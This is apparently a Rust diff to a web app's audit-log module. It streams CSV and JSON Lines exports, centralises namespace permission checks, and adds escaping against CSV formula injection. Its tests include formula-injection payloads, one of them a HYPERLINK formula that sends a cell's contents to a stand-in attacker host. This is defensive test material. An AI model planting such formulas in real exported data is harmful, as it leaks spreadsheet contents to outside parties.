@@ -2,6 +2,7 @@
 //! changes in the namespaces they may read; account events are for administrators.
 
 use leptos::prelude::*;
+use leptos::server_fn::Bytes;
 use leptos::server_fn::ContentType;
 use leptos::server_fn::codec::{Encoding, FromRes, IntoRes};
 use leptos::server_fn::error::FromServerFnError;
@@ -54,8 +55,11 @@ pub struct AuditView {
     pub rows: Vec<AuditRow>,
     /// The `before` of the next (older) page.
     pub next_before: Option<u64>,
-    /// Changes per day (UTC) over the last 30 days, oldest first, for what the filter matches.
+    /// Changes per day (UTC) over the last 30 days, oldest first, for what the filter matches,
+    /// counted over at most the newest [`CHART_MAX_ENTRIES`] entries.
     pub per_day: Vec<(String, usize)>,
+    /// More entries of those 30 days match than the chart counted.
+    pub chart_partial: bool,
     /// "intact (N entries)" or where and why it breaks.
     pub chain: String,
     pub chain_intact: bool,
@@ -73,8 +77,8 @@ impl Encoding for TextFile {
     const METHOD: http::Method = http::Method::GET;
 }
 
-/// The body of a download.
-pub struct Download(pub String);
+/// The body of a download, sent as it is produced.
+pub struct Download(pub futures::stream::BoxStream<'static, Result<Bytes, Bytes>>);
 
 impl<E, Response> IntoRes<TextFile, Response, E> for Download
 where
@@ -82,7 +86,7 @@ where
     E: FromServerFnError,
 {
     async fn into_res(self) -> Result<Response, E> {
-        Response::try_from_string(TextFile::CONTENT_TYPE, self.0)
+        Response::try_from_stream(TextFile::CONTENT_TYPE, self.0)
     }
 }
 
@@ -92,7 +96,225 @@ where
     E: FromServerFnError,
 {
     async fn from_res(res: Response) -> Result<Self, E> {
-        Ok(Download(res.try_into_string().await?))
+        use futures::StreamExt;
+        Ok(Download(res.try_into_stream()?.boxed()))
+    }
+}
+
+/// The audit log as files: CSV a spreadsheet opens safely, and JSON Lines.
+#[cfg(feature = "ssr")]
+pub mod export {
+    use std::borrow::Cow;
+
+    use confo::audit::AuditEntry;
+    use leptos::server_fn::Bytes;
+
+    use super::AuditRow;
+
+    /// Entries an export reads from the store at a time: what it holds in memory, whatever the
+    /// size of the log.
+    pub const PAGE: usize = 500;
+
+    /// A format an export is written in.
+    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+    pub enum Format {
+        Csv,
+        JsonLines,
+    }
+
+    impl Format {
+        /// The format named in the address (`csv` or `jsonl`).
+        pub fn named(name: &str) -> Option<Self> {
+            match name {
+                "csv" => Some(Self::Csv),
+                "jsonl" => Some(Self::JsonLines),
+                _ => None,
+            }
+        }
+
+        pub fn content_type(self) -> &'static str {
+            match self {
+                Self::Csv => "text/csv; charset=utf-8",
+                Self::JsonLines => "application/x-ndjson",
+            }
+        }
+
+        pub fn file_name(self) -> &'static str {
+            match self {
+                Self::Csv => "confo-audit.csv",
+                Self::JsonLines => "confo-audit.jsonl",
+            }
+        }
+
+        /// What the file starts with, before any entry.
+        pub fn head(self) -> Bytes {
+            match self {
+                Self::Csv => Bytes::from(csv_lines(&[], true)),
+                Self::JsonLines => Bytes::new(),
+            }
+        }
+
+        /// A page of entries, as lines of the file.
+        pub fn lines(self, entries: &[AuditEntry]) -> Bytes {
+            match self {
+                Self::Csv => {
+                    let rows: Vec<AuditRow> = entries.iter().map(super::ssr::row).collect();
+                    Bytes::from(csv_lines(&rows, false))
+                }
+                // The entries as stored, hashes included, so that the chain can be checked.
+                Self::JsonLines => Bytes::from(
+                    entries
+                        .iter()
+                        .map(|e| serde_json::to_string(e).unwrap_or_default() + "\n")
+                        .collect::<String>(),
+                ),
+            }
+        }
+    }
+
+    /// Makes a CSV cell safe to open in a spreadsheet: text that starts like a formula (`=`,
+    /// `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, so that the spreadsheet
+    /// shows it instead of running it. A plain number (`-3`, `+1.5`) is left as it is.
+    pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
+        let formula_like = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        let number = cell.parse::<f64>().is_ok_and(f64::is_finite);
+        if formula_like && !number {
+            format!("'{cell}").into()
+        } else {
+            cell.into()
+        }
+    }
+
+    /// The first line of the CSV export.
+    pub const CSV_HEADER: [&str; 9] = [
+        "seq",
+        "time",
+        "who",
+        "action",
+        "namespace",
+        "configuration",
+        "field",
+        "user",
+        "comment",
+    ];
+
+    /// `rows` as CSV lines (text quoted, each cell [`spreadsheet_safe`]), after the header line
+    /// when `header` is set.
+    pub fn csv_lines(rows: &[AuditRow], header: bool) -> Vec<u8> {
+        // The header as it always was, unquoted (none of its names needs quotes).
+        let start = if header {
+            CSV_HEADER
+                .join(",")
+                .into_bytes()
+                .into_iter()
+                .chain([b'\n'])
+                .collect()
+        } else {
+            Vec::new()
+        };
+        let mut writer = csv::WriterBuilder::new()
+            .quote_style(csv::QuoteStyle::NonNumeric)
+            .from_writer(start);
+        // Writing to memory fails only on a record of the wrong length, which these are not.
+        for r in rows {
+            let text = [
+                &r.when,
+                &r.who,
+                &r.action,
+                &r.namespace,
+                &r.configuration,
+                &r.field,
+                &r.user,
+                &r.comment,
+            ]
+            .map(|cell| spreadsheet_safe(cell));
+            let seq = r.seq.to_string();
+            let _ = writer
+                .write_record(std::iter::once(seq.as_str()).chain(text.iter().map(|c| c.as_ref())));
+        }
+        writer.into_inner().unwrap_or_default()
+    }
+
+    #[cfg(test)]
+    mod tests {
+        use super::*;
+
+        #[test]
+        fn cells_that_start_like_a_formula_are_shown_as_text() {
+            let cases = [
+                ("=1+2", "'=1+2"),
+                ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
+                ("+33 612", "'+33 612"),
+                ("-2+3", "'-2+3"),
+                ("-", "'-"),
+                ("@SUM(A1)", "'@SUM(A1)"),
+                ("\t=1", "'\t=1"),
+                ("\r=1", "'\r=1"),
+                ("-inf", "'-inf"),
+                ("+NaN", "'+NaN"),
+                ("-3", "-3"),
+                ("+1.5", "+1.5"),
+                ("-0.25e3", "-0.25e3"),
+                ("42", "42"),
+                ("", ""),
+                ("a=b", "a=b"),
+                (" =1", " =1"),
+                ("n=2", "n=2"),
+                ("'already", "'already"),
+            ];
+            for (cell, expected) in cases {
+                assert_eq!(spreadsheet_safe(cell), expected, "{cell:?}");
+            }
+        }
+
+        fn row(comment: &str) -> AuditRow {
+            AuditRow {
+                seq: 7,
+                when: "2026-11-29 10:00:00".into(),
+                who: "@ada".into(),
+                action: "field.set".into(),
+                namespace: "billing".into(),
+                configuration: "svc".into(),
+                field: "-x".into(),
+                user: String::new(),
+                comment: comment.into(),
+                link: None,
+            }
+        }
+
+        #[test]
+        fn a_tricky_entry_reads_back_whole_and_inert() {
+            let comment =
+                "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")\nsecond, line \"quoted\"";
+            let mut file = csv_lines(&[], true);
+            file.extend(csv_lines(&[row(comment), row("-3")], false));
+            let mut reader = csv::Reader::from_reader(file.as_slice());
+            assert_eq!(
+                reader.headers().unwrap(),
+                &csv::StringRecord::from(CSV_HEADER.to_vec())
+            );
+            let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+            assert_eq!(records.len(), 2);
+            assert_eq!(
+                records[0].iter().collect::<Vec<_>>(),
+                [
+                    "7",
+                    "2026-11-29 10:00:00",
+                    "'@ada",
+                    "field.set",
+                    "billing",
+                    "svc",
+                    "'-x",
+                    "",
+                    &format!("'{comment}"),
+                ]
+            );
+            assert_eq!(&records[1][8], "-3");
+            // Text is quoted as before; the number is not.
+            let text = String::from_utf8(file).unwrap();
+            assert!(text.starts_with("seq,time,who,"), "{text}");
+            assert!(text.contains("\n7,\"2026-11-29 10:00:00\","), "{text}");
+        }
     }
 }
 
@@ -291,8 +513,86 @@ mod ssr {
         }
     }
 
+    /// Reads, newest first, the entries matching a filter that the signed-in user may read, a
+    /// store page at a time. Opening it checks who is asking and refuses a namespace they may not
+    /// read, so it comes first in every server function that reads the log.
+    pub struct AuditReader {
+        store: confo::Store,
+        user: confo::users::User,
+        query: confo::AuditQuery,
+        done: bool,
+        /// Entries read so far, readable or not.
+        pub read: usize,
+    }
+
+    impl AuditReader {
+        /// A reader of the entries older than `before`, `page` matching entries at a time.
+        pub async fn open(
+            filter: &AuditFilter,
+            before: Option<u64>,
+            page: usize,
+        ) -> Result<Self, AppError> {
+            let user = require_user().await?;
+            let opt = |s: &str| (!s.trim().is_empty()).then(|| s.trim().to_owned());
+            if let Some(ns) = opt(&filter.namespace)
+                && !user.grants.covers(&ns)
+            {
+                return Err(reject(AppError::Forbidden(
+                    "You may not read that namespace.".into(),
+                )));
+            }
+            let query = confo::AuditQuery {
+                actor: opt(&filter.who),
+                namespace: opt(&filter.namespace),
+                configuration: opt(&filter.configuration),
+                action: action(&filter.action)?,
+                since: day(&filter.since, false)?,
+                until: day(&filter.until, true)?,
+                before_seq: before,
+                limit: Some(page),
+                user: None,
+            };
+            Ok(Self {
+                store: store()?,
+                user,
+                query,
+                done: false,
+                read: 0,
+            })
+        }
+
+        /// The readable entries of the next page; `None` once the log is read to its start.
+        pub async fn next_page(&mut self) -> confo::Result<Option<Vec<AuditEntry>>> {
+            if self.done {
+                return Ok(None);
+            }
+            let page = self.store.audit(&self.query).await?;
+            self.read += page.entries.len();
+            match page.next_before_seq {
+                Some(seq) => self.query.before_seq = Some(seq),
+                None => self.done = true,
+            }
+            let admin = self.user.role == confo::users::Role::Admin;
+            let grants = &self.user.grants;
+            Ok(Some(
+                page.entries
+                    .into_iter()
+                    .filter(|entry| match &entry.namespace {
+                        Some(ns) => grants.covers(ns),
+                        None => admin,
+                    })
+                    .collect(),
+            ))
+        }
+
+        /// Where the next page starts, while there is one.
+        pub fn next_before(&self) -> Option<u64> {
+            self.query.before_seq.filter(|_| !self.done)
+        }
+    }
+
     /// Entries matching `filter` that the signed-in user may read, newest first, older than
-    /// `before`, at most `limit`, scanning at most `max_scan` entries. Answers them and the
+    /// `before`, at most `limit`, reading at most about `max_scan` entries. Answers them and the
     /// cursor of the next page.
     pub async fn matching(
         filter: &AuditFilter,
@@ -300,75 +600,105 @@ mod ssr {
         limit: usize,
         max_scan: usize,
     ) -> Result<(Vec<AuditEntry>, Option<u64>), AppError> {
-        let user = require_user().await?;
-        let admin = user.role == confo::users::Role::Admin;
-        let opt = |s: &str| (!s.trim().is_empty()).then(|| s.trim().to_owned());
-        if let Some(ns) = opt(&filter.namespace)
-            && !user.grants.covers(&ns)
-        {
-            return Err(reject(AppError::Forbidden(
-                "You may not read that namespace.".into(),
-            )));
-        }
-        let mut query = confo::AuditQuery {
-            actor: opt(&filter.who),
-            namespace: opt(&filter.namespace),
-            configuration: opt(&filter.configuration),
-            action: action(&filter.action)?,
-            since: day(&filter.since, false)?,
-            until: day(&filter.until, true)?,
-            before_seq: before,
-            limit: Some(limit.min(256)),
-            user: None,
-        };
-        let store = store()?;
+        let mut reader = AuditReader::open(filter, before, limit.clamp(1, 256)).await?;
         let mut found = Vec::new();
-        let mut scanned = 0;
-        loop {
-            let page = store.audit(&query).await.map_err(reject)?;
-            scanned += page.entries.len();
-            for entry in page.entries {
-                let visible = match &entry.namespace {
-                    Some(ns) => user.grants.covers(ns),
-                    None => admin,
-                };
-                if visible {
-                    found.push(entry);
-                    if found.len() == limit {
-                        let next = found.last().map(|e| e.seq).filter(|&s| s > 1);
-                        return Ok((found, next));
-                    }
+        while let Some(entries) = reader.next_page().await.map_err(reject)? {
+            for entry in entries {
+                found.push(entry);
+                if found.len() == limit {
+                    let next = found.last().map(|e| e.seq).filter(|&s| s > 1);
+                    return Ok((found, next));
                 }
             }
-            match page.next_before_seq {
-                Some(seq) if scanned < max_scan => query.before_seq = Some(seq),
-                Some(seq) => return Ok((found, Some(seq))),
-                None => return Ok((found, None)),
+            if reader.read >= max_scan {
+                return Ok((found, reader.next_before()));
             }
+        }
+        Ok((found, None))
+    }
+
+    /// Changes per day over the `days` days up to `today`, oldest first, counted from the days
+    /// (UTC) of `entries`.
+    pub fn per_day(
+        entries: impl IntoIterator<Item = chrono::NaiveDate>,
+        today: chrono::NaiveDate,
+        days: u32,
+    ) -> Vec<(String, usize)> {
+        let start = today - chrono::Duration::days(i64::from(days) - 1);
+        let mut counts = vec![0; days as usize];
+        for day in entries {
+            if let Ok(i) = usize::try_from((day - start).num_days())
+                && let Some(count) = counts.get_mut(i)
+            {
+                *count += 1;
+            }
+        }
+        counts
+            .into_iter()
+            .enumerate()
+            .map(|(i, count)| {
+                let day = start + chrono::Duration::days(i as i64);
+                (day.format("%Y-%m-%d").to_string(), count)
+            })
+            .collect()
+    }
+
+    #[cfg(test)]
+    mod tests {
+        use chrono::NaiveDate;
+
+        use super::per_day;
+
+        #[test]
+        fn counts_changes_per_day_inside_the_window_only() {
+            let d = |s: &str| NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap();
+            let today = d("2026-11-29");
+            let days = [
+                "2026-11-29",
+                "2026-11-29",
+                "2026-11-27",
+                "2026-11-26",
+                "2026-11-25",
+                "2026-12-01",
+            ];
+            let chart = per_day(days.map(d), today, 4);
+            assert_eq!(
+                chart,
+                [
+                    ("2026-11-26".to_owned(), 1),
+                    ("2026-11-27".to_owned(), 1),
+                    ("2026-11-28".to_owned(), 0),
+                    ("2026-11-29".to_owned(), 2),
+                ]
+            );
+            assert_eq!(per_day([], today, 30).len(), 30);
         }
     }
 }
+
+/// How many entries one page of the log reads at most to find its [`AUDIT_PAGE`] entries (when
+/// few are readable); past it, "Older entries" carries on from where it stopped.
+pub const LIST_MAX_READ: usize = 10_000;
+
+/// How many of the newest entries of the last 30 days the chart counts at most.
+pub const CHART_MAX_ENTRIES: usize = 10_000;
 
 /// A page of the audit log, newest first, with changes per day and the chain's state.
 #[server(endpoint = "audit/list", input = leptos::server_fn::codec::GetUrl)]
 pub async fn audit_log(filter: AuditFilter, before: Option<u64>) -> Result<AuditView, AppError> {
     use super::ssr::{reject, store};
-    let (entries, next_before) = ssr::matching(&filter, before, AUDIT_PAGE, 100_000).await?;
-    // The chart: the filtered view's last 30 days.
+    let (entries, next_before) = ssr::matching(&filter, before, AUDIT_PAGE, LIST_MAX_READ).await?;
+    // The chart: the filtered view's last 30 days, as far as its newest entries go.
     let today = chrono::Utc::now().date_naive();
-    let start = today - chrono::Duration::days(29);
     let chart_filter = AuditFilter {
-        since: start.format("%Y-%m-%d").to_string(),
+        since: (today - chrono::Duration::days(29))
+            .format("%Y-%m-%d")
+            .to_string(),
         ..filter.clone()
     };
-    let (recent, _) = ssr::matching(&chart_filter, None, 10_000, 100_000).await?;
-    let per_day = (0..30)
-        .map(|i| {
-            let day = start + chrono::Duration::days(i);
-            let count = recent.iter().filter(|e| e.time.date_naive() == day).count();
-            (day.format("%Y-%m-%d").to_string(), count)
-        })
-        .collect();
+    let (recent, more) =
+        ssr::matching(&chart_filter, None, CHART_MAX_ENTRIES, CHART_MAX_ENTRIES).await?;
+    let per_day = ssr::per_day(recent.iter().map(|e| e.time.date_naive()), today, 30);
     let checkpoint = use_context::<chain::ChainCheckpoint>().unwrap_or_default();
     let (chain, chain_intact) = match checkpoint.verify(&store()?).await.map_err(reject)? {
         confo::audit::Verification::Intact { entries } => (
@@ -384,6 +714,7 @@ pub async fn audit_log(filter: AuditFilter, before: Option<u64>) -> Result<Audit
         rows: entries.iter().map(ssr::row).collect(),
         next_before,
         per_day,
+        chart_partial: more.is_some(),
         chain,
         chain_intact,
         actions: ssr::ACTIONS.iter().map(|a| a.as_str().to_owned()).collect(),
@@ -391,61 +722,48 @@ pub async fn audit_log(filter: AuditFilter, before: Option<u64>) -> Result<Audit
 }
 
 /// The filtered view (every matching entry, newest first) as `csv` or `jsonl` (JSON Lines: the
-/// entries as stored, hashes included), as a file download.
+/// entries as stored, hashes included), as a file download. The file is written as the log is
+/// read, [`export::PAGE`] entries at a time, so a long log is never held in memory whole.
 #[server(endpoint = "audit/export", input = leptos::server_fn::codec::GetUrl, output = TextFile)]
 pub async fn export_audit(filter: AuditFilter, format: String) -> Result<Download, AppError> {
     use super::ssr::reject;
-    let (entries, _) = ssr::matching(&filter, None, usize::MAX, usize::MAX).await?;
-    let (content_type, body) = match format.as_str() {
-        "jsonl" => (
-            "application/x-ndjson",
-            entries
-                .iter()
-                .map(|e| serde_json::to_string(e).unwrap_or_default() + "\n")
-                .collect::<String>(),
-        ),
-        "csv" => {
-            let quote = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
-            let mut csv =
-                String::from("seq,time,who,action,namespace,configuration,field,user,comment\n");
-            for e in &entries {
-                let r = ssr::row(e);
-                let cells = [
-                    r.seq.to_string(),
-                    quote(&r.when),
-                    quote(&r.who),
-                    quote(&r.action),
-                    quote(&r.namespace),
-                    quote(&r.configuration),
-                    quote(&r.field),
-                    quote(&r.user),
-                    quote(&r.comment),
-                ];
-                csv.push_str(&cells.join(","));
-                csv.push('\n');
-            }
-            ("text/csv; charset=utf-8", csv)
-        }
-        other => {
-            return Err(reject(AppError::Invalid(format!(
-                "{other:?} is not an export format; use csv or jsonl."
-            ))));
-        }
+    use futures::StreamExt;
+    let reader = ssr::AuditReader::open(&filter, None, export::PAGE).await?;
+    let Some(format) = export::Format::named(&format) else {
+        return Err(reject(AppError::Invalid(format!(
+            "{format:?} is not an export format; use csv or jsonl."
+        ))));
     };
     if let Some(response) = use_context::<leptos_axum::ResponseOptions>() {
         response.insert_header(
             http::header::CONTENT_TYPE,
-            http::HeaderValue::from_static(content_type),
+            http::HeaderValue::from_static(format.content_type()),
         );
-        let name = if format == "csv" {
-            "confo-audit.csv"
-        } else {
-            "confo-audit.jsonl"
-        };
-        if let Ok(value) = http::HeaderValue::from_str(&format!("attachment; filename=\"{name}\""))
+        if let Ok(value) =
+            http::HeaderValue::from_str(&format!("attachment; filename=\"{}\"", format.file_name()))
         {
             response.insert_header(http::header::CONTENT_DISPOSITION, value);
         }
     }
-    Ok(Download(body))
+    let pages = futures::stream::unfold(Some(reader), move |reader| async move {
+        let mut reader = reader?;
+        match reader.next_page().await {
+            Ok(Some(entries)) => Some((Ok(format.lines(&entries)), Some(reader))),
+            Ok(None) => None,
+            Err(error) => {
+                // The status is sent already: the download ends unfinished, and says so.
+                tracing::error!(%error, "the audit export stopped: the log cannot be read");
+                Some((
+                    Err(Bytes::from_static(b"the audit log cannot be read")),
+                    None,
+                ))
+            }
+        }
+    });
+    let file = futures::stream::once(async move { Ok(format.head()) })
+        .chain(pages)
+        .filter(|chunk| {
+            std::future::ready(chunk.as_ref().is_ok_and(|c| !c.is_empty()) || chunk.is_err())
+        });
+    Ok(Download(file.boxed()))
 }
